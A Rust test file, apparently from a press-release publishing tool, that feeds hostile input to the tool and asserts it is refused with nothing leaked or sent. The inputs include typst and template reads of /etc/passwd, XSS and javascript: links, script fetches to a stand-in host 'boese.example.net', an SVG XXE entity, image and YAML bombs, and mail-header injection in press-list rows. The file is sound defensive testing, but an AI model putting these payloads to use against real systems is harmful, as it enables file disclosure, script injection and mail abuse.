//! What staff or a supplier hides in a text, a template, a picture or a press list; clocks that are wrong.

use super::attack::{ATTACK, Attack, check};
use crate::desk::Desk;
use crate::office::{ID, Stage, TEXT, TEXT_FILE, assert_nothing_went_out, commit_by_hand, head, office};

const MEDIA: &str = "statements/2026/2026-abschiebestopp/media";

/// What somebody writes into a text, how `check` ends and what it says, and what no output may hold.
/// `kept`: it is printed as it was typed.
struct Hidden {
    what: &'static str,
    text: fn() -> String,
    exit: i32,
    says: &'static str,
    never: &'static [&'static str],
    kept: Option<&'static str>,
    /// Drawing it is stopped by a limit, with these words.
    stopped: Option<&'static str>,
}

#[test]
fn what_is_hidden_in_a_text() {
    fn after(words: &str) -> String {
        format!("{TEXT}\n{words}\n")
    }
    const PLAIN: Hidden =
        Hidden { what: "", text: String::new, exit: 0, says: "", never: &[], kept: None, stopped: None };
    let start = office(Stage::Submitted);
    for Hidden { what, text, exit, says, never, kept, stopped } in [
        Hidden {
            what: "a command of typst in the text",
            text: || after("#read(\"/etc/passwd\")"),
            never: &["root:"],
            kept: Some("#read("),
            ..PLAIN
        },
        Hidden {
            what: "a command of typst in the headline",
            text: || TEXT.replace("# Abschiebestopp im Winter", "# #read(\"/etc/passwd\") #panic()"),
            never: &["root:"],
            kept: Some("#read("),
            ..PLAIN
        },
        Hidden {
            what: "a command of minijinja",
            text: || after("{{ house }} {% include '/etc/passwd' %} {{ 7*7 }}"),
            never: &["root:", "49"],
            kept: Some("7*7"),
            ..PLAIN
        },
        Hidden {
            what: "a link that runs a program",
            text: || after("[hier](javascript:alert(1)) und [da](data:text/html,x) und [dort](file:///etc/passwd)"),
            exit: 6,
            says: "javascript",
            never: &["javascript:", "data:text", "file:///"],
            ..PLAIN
        },
        Hidden {
            what: "a program in HTML",
            text: || after("<script src=\"https://boese.example.net/x.js\"></script><img src=x onerror=alert(1)>"),
            says: "HTML",
            never: &["<script src", "onerror", "boese.example.net"],
            ..PLAIN
        },
        Hidden {
            what: "50,000 quotes in each other",
            text: || after(&format!("{}tief", ">".repeat(50_000))),
            says: "verschachtelt",
            stopped: Some("zu tief ineinander geschachtelt"),
            ..PLAIN
        },
        Hidden {
            what: "brackets, stars and notes by the thousand that are never closed",
            text: || after(&format!("{}\n\n{}\n\n{}", "[".repeat(3_900), "**a ".repeat(3_000), "[^x]".repeat(900))),
            ..PLAIN
        },
        Hidden {
            what: "more of them than a line of a PDF holds",
            text: || after(&"[".repeat(9_000)),
            exit: 6,
            says: "9000 Zeichen ohne Leerzeichen",
            ..PLAIN
        },
        Hidden {
            what: "a head in which each line doubles the one before",
            text: || TEXT.replace("place: Beispielstadt", "place: &a [x, x]\nreference: [*a, *a]"),
            exit: 6,
            says: "Kopf",
            ..PLAIN
        },
    ] {
        println!("{what}");
        let anna = start.copy();
        anna.write(TEXT_FILE, text());
        anna.watch_sockets();
        let checked = anna.run(["check", ID]).exits(exit);
        assert!(format!("{}{}", checked.stdout, checked.stderr).contains(says), "{what}\n{checked}");
        if let Some(words) = stopped {
            anna.run(["render", ID, "--draft", "-f", "txt", "-o", "-"]).exits(6).says(words);
        } else if exit == 0 {
            for format in ["txt", "html"] {
                let shown = anna.run(["render", ID, "--draft", "-f", format, "-o", "-"]).succeeds();
                never.iter().for_each(|words| assert!(!shown.stdout.contains(words), "{what}: {words}"));
                kept.iter().for_each(|words| assert!(shown.stdout.contains(words), "{what}\n{}", shown.stdout));
            }
            anna.run(["render", ID, "--draft", "-f", "pdf", "-o", "x.pdf"]).succeeds();
        } else {
            let before = head(&anna);
            anna.run(["submit", ID]).exits(6);
            assert_eq!(head(&anna), before, "{what}: something was saved");
        }
        assert_nothing_went_out(&anna);
        assert_eq!(anna.sockets(), "", "{what}: somebody was called");
    }
}

/// Whatever a template does, it is not what was approved; and what it does is nothing, or stopped.
#[test]
fn what_is_hidden_in_a_template() {
    fn template(anna: &Desk, name: &str, change: fn(String) -> String) {
        let path = format!("templates/{name}");
        anna.write(&path, change(anna.read(&path)));
        commit_by_hand(anna);
    }
    const CHANGED: Attack = Attack { exit: 8, says: &["Die Vorlagen wurden geändert"], ..ATTACK };
    const DRAWN: Attack = Attack {
        types: &["render", ID, "--draft", "-f", "pdf", "-o", "x.pdf"],
        exit: 1,
        says: &["press-release.typ"],
        ..ATTACK
    };
    check(&[
        Attack {
            what: "a file read by a template, published",
            before: |a| template(a, "press-release.typ", |text| text + "\n#read(\"/etc/passwd\")\n"),
            ..CHANGED
        },
        Attack {
            what: "a file read by a template, drawn",
            before: |a| template(a, "press-release.typ", |text| text + "\n#read(\"/etc/passwd\")\n"),
            ..DRAWN
        },
        Attack {
            what: "a package from the net in a template",
            before: |a| template(a, "press-release.typ", |text| format!("#import \"@preview/cetz:0.3.0\"\n{text}")),
            ..DRAWN
        },
        Attack {
            what: "an endless loop in a template",
            before: |a| template(a, "press-release.typ", |text| text + "\n#{ let i = 0; while i >= 0 { i += 1 } }\n"),
            ..DRAWN
        },
        Attack {
            what: "a program in the page's template",
            before: |a| {
                template(a, "article.html", |text| text + "<script>fetch('https://boese.example.net')</script>")
            },
            ..CHANGED
        },
        Attack {
            what: "a new word in the fixed words",
            before: |a| template(a, "words.json", |text| text.replacen("Pressemitteilung", "Falschmeldung", 1)),
            ..CHANGED
        },
    ]);
}

#[test]
fn pictures_that_are_bombs() {
    fn beside(anna: &Desk, name: &str, bytes: &[u8]) {
        anna.write(&format!("{MEDIA}/{name}"), bytes);
        anna.write(TEXT_FILE, format!("{TEXT}\n![Ein Zelt](media/{name} \"Foto: Anna Beispiel\")\n"));
    }
    /// The head of a picture that says how large it is, and nothing behind it.
    fn png(width: u32, height: u32) -> Vec<u8> {
        let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
        bytes.extend(width.to_be_bytes());
        bytes.extend(height.to_be_bytes());
        bytes.extend([8, 2, 0, 0, 0, 0, 0, 0, 0]);
        bytes
    }
    const SUBMIT: Attack = Attack {
        stage: Stage::Submitted,
        person: "anna",
        types: &["submit", ID],
        exit: 6,
        says: &["media/", "de.md"],
        ..ATTACK
    };
    check(&[
        Attack { what: "50,000 by 50,000 points", before: |a| beside(a, "gross.png", &png(50_000, 50_000)), ..SUBMIT },
        Attack { what: "a text that calls itself a picture", before: |a| beside(a, "x.png", b"#!/bin/sh"), ..SUBMIT },
        Attack {
            what: "a drawing with a file of this machine in it",
            before: |a| {
                let svg = "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>\
                           <svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><text>&x;</text></svg>";
                beside(a, "x.svg", svg.as_bytes());
            },
            ..SUBMIT
        },
    ]);
}

/// A row of the press list that would be two headers of a mail, or two people.
#[test]
fn rows_of_the_press_list() {
    let start = office(Stage::Submitted);
    for (what, row) in [
        ("a line break in an address", "Bo,\"bo@zeitung.example.org\r\nBcc: alle@example.net\",Blatt,,de,bund,Karte,,"),
        ("a line break in a name", "\"Bo\r\nBcc: alle@example.net\",bo@zeitung.example.org,Blatt,,de,bund,Karte,,"),
        ("an escape in a name", "\"Bo\u{1b}[2J\",bo@zeitung.example.org,Blatt,,de,bund,Karte,,"),
        ("two addresses in one", "Bo,\"bo@zeitung.example.org, alle@example.net\",Blatt,,de,bund,Karte,,"),
        ("an address in pointed brackets", "Bo,<bo@zeitung.example.org>;alle@example.net,Blatt,,de,bund,Karte,,"),
    ] {
        println!("{what}");
        let anna = start.copy();
        let file = anna.home().join("new.csv");
        let header = "name,email,outlet,beats,language,lists,source,since,objected";
        std::fs::write(&file, format!("{header}\n{row}\n")).expect("a table");
        let list = || std::fs::read_to_string(anna.home().join("klartext/contacts.csv")).expect("the list");
        let before = (head(&anna), list());
        anna.watch_sockets();
        let refused = anna.run(["contacts".as_ref(), "import".as_ref(), file.as_os_str()]);
        refused.exits(1).says("Zeile 2").never_mentions("bo@zeitung").never_mentions("\u{1b}");
        assert_eq!((head(&anna), list()), before, "{what}: something was kept");
        assert_eq!(anna.sockets(), "", "{what}: somebody was called");
    }
}

/// An embargo that is no moment stops everything; one that is a moment is that in every zone.
#[test]
fn clocks_and_zones() {
    fn embargoed(anna: &Desk, time: &str) {
        anna.write(TEXT_FILE, TEXT.replace("contacts:", &format!("embargo: {time}\ncontacts:")));
        anna.git(["add", "-A"]).succeeds();
        commit_by_hand(anna);
    }
    const GATE: Attack = Attack { exit: 2, says: &["ist hier kein brauchbarer Zeitpunkt"], ..ATTACK };
    check(&[
        Attack { what: "an hour that is skipped", before: |a| embargoed(a, "2027-03-28 02:30"), ..GATE },
        Attack { what: "an hour that comes twice", before: |a| embargoed(a, "2026-10-25 02:30"), ..GATE },
        Attack {
            what: "a day that is none, typed",
            types: &["embargo", ID, "2027-02-30 10:00"],
            exit: 2,
            person: "anna",
            says: &["2027-02-30"],
            ..ATTACK
        },
        Attack {
            what: "a moment that is past, typed",
            types: &["embargo", ID, "2026-11-01 10:00", "-y"],
            exit: 2,
            person: "anna",
            ..ATTACK
        },
    ]);
}
